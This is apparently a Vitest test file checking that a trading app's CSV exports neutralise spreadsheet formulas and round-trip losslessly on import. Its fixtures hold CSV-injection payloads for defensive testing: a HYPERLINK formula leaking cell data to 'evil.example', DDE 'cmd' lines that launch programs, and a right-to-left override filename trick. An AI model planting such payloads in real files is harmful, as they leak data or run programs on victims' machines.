import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { ledgerListing, LINKED, MAIN } from '../drafts/fixtures.ts';
import { csvFixture, csvOf, preview, type CsvFixture } from './csv-support.ts';

/**
 * A trader opens an export in a spreadsheet: a cell that starts with `=`,
 * `+`, `-`, `@`, a tab or a carriage return would run as a formula there
 * (OWASP CSV injection: `=HYPERLINK(…)` leaks data on a click, `+cmd|…`
 * starts programs). Export prefixes such cells with `'` so they show as
 * text; import takes exactly that prefix off, so a round trip is lossless.
 */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted by hand",
  "''@two quotes",
  "'not a formula",
  '=',
];
const TRIGGERS = /^[=+\-@\t\r]/;

let f: CsvFixture | undefined;
let g: CsvFixture | undefined;
afterEach(() => {
  f?.dispose();
  g?.dispose();
  f = g = undefined;
});

/** Every data cell of a CSV file as a spreadsheet reads it. */
function cells(text: string): string[] {
  const rows = Papa.parse<string[]>(text, { header: false, skipEmptyLines: true }).data;
  return rows.slice(1).flat();
}

function expectSpreadsheetSafe(text: string): void {
  const risky = cells(text).filter((c) => TRIGGERS.test(c));
  expect(risky).toEqual([]);
}

const ledgerOf = (fx: CsvFixture) => ({
  listings: fx.t.repos.listings.all().map(({ updated_at: _u, ...rest }) => rest),
  buyOrders: fx.t.repos.buyOrders.all().map(({ updated_at: _u, ...rest }) => rest),
});

describe('CSV exports are safe to open in a spreadsheet and import back unchanged', () => {
  it('listings: formula notes, SKUs and listing IDs are neutralised, and import restores them', async () => {
    f = csvFixture();
    f.t.repos.listings.upsertMany(FORMULAS.map((note, i) => ledgerListing(String(100 + i), {
      user_note: note, sku: i % 2 === 0 ? `@${i};6` : `-${i};6`, listing_id: i === 0 ? '-leading-dash' : `L${i}`, account: i % 2 ? LINKED : MAIN,
    })));
    const text = await f.csv.exportListings();
    expectSpreadsheetSafe(text);
    expect(text).toContain(`'=HYPERLINK(`);

    g = csvFixture();
    const p = await preview(g, 'listings', text);
    expect(p).toMatchObject({ validCount: FORMULAS.length, errors: [] });
    await g.csv.commitImport(p.token);
    expect(ledgerOf(g).listings).toEqual(ledgerOf(f).listings);
    expect(await g.csv.exportListings()).toBe(text);
  });

  it('buy orders: the same, SKUs and notes', async () => {
    f = csvFixture();
    f.t.repos.buyOrders.upsertMany(FORMULAS.map((note, i) => ({ sku: `+${i};${i}`, account: MAIN, price: 10 + i, quantity: 1, user_note: note })));
    const text = await f.csv.exportBuyOrders();
    expectSpreadsheetSafe(text);
    g = csvFixture();
    const p = await preview(g, 'buyOrders', text);
    expect(p).toMatchObject({ validCount: FORMULAS.length, errors: [] });
    await g.csv.commitImport(p.token);
    expect(ledgerOf(g).buyOrders).toEqual(ledgerOf(f).buyOrders);
  });

  it('a draft: every change with a formula note or SKU round-trips into another draft', async () => {
    f = csvFixture();
    const a = f.drafts.create('a').id;
    const made = f.drafts.addChanges(a, FORMULAS.flatMap((note, i) => [
      { kind: 'listing.create' as const, asset_id: String(500 + i), price: 100 + i, promoted: 0 as const, user_note: note, sku: `=${i};6` },
      { kind: 'buyOrder.create' as const, sku: `@${i};${i}`, price: 10, quantity: 2, user_note: note, account: LINKED },
    ]));
    expect(made.errors).toEqual([]);
    const text = await f.csv.exportDraft(a);
    expectSpreadsheetSafe(text);

    const b = f.drafts.create('b').id;
    const p = await preview(f, 'draft', text, b);
    expect(p).toMatchObject({ validCount: FORMULAS.length * 2, errors: [] });
    await f.csv.commitImport(p.token);
    const changes = (id: string) => f?.drafts.entries(id).map((e) => e.change);
    expect(changes(b)).toEqual(changes(a));
    expect(await f.csv.exportDraft(b)).toBe(text);
  });

  it('keeps numbers numbers: a negative price is read as a number and refused by its rule, with or without the prefix', async () => {
    f = csvFixture();
    const { id } = f.drafts.create('d');
    const p = await preview(f, 'draft', csvOf(
      'kind,asset_id,price_cents,promoted',
      'listing.create,1,-5,0',
      "listing.create,2,'-5,0",
      'listing.create,3,+7,0',
    ), id);
    expect(p.errors).toEqual([
      { line: 2, reason: 'price_cents: must be more than 0 cents' },
      { line: 3, reason: 'price_cents: must be more than 0 cents' },
    ]);
    expect(p.validCount).toBe(1);
  });

  it('takes off only the prefix export adds: a hand-written leading quote before ordinary text stays', async () => {
    f = csvFixture();
    const { id } = f.drafts.create('d');
    const p = await preview(f, 'draft', csvOf('kind,asset_id,price_cents,promoted,user_note', "listing.create,1,100,0,'tis the season", "listing.create,2,100,0,'=typed as text"), id);
    expect(p.errors).toEqual([]);
    await f.csv.commitImport(p.token);
    expect(f.drafts.entries(id).map((e) => e.change).map((c) => ('user_note' in c ? c.user_note : null))).toEqual(["'tis the season", '=typed as text']);
  });

  it('refuses a note with a NUL or a text direction control on the line that has it', async () => {
    f = csvFixture();
    const { id } = f.drafts.create('d');
    const p = await preview(f, 'draft', csvOf('kind,asset_id,price_cents,promoted,user_note', 'listing.create,1,100,0,a\u0000b', 'listing.create,2,100,0,ok', 'listing.create,3,100,0,\u202egnp.exe'), id);
    expect(p.errors).toEqual([
      { line: 2, reason: 'user_note: must not contain a NUL character' },
      { line: 4, reason: 'user_note: must not contain a text direction control (U+202E)' },
    ]);
    const buy = await preview(f, 'buyOrders', csvOf('sku,price_cents,quantity', '5021;6\u2066,10,1'));
    expect(buy.errors).toEqual([{ line: 2, reason: 'sku: must not contain a text direction control (U+2066)' }]);
  });
});
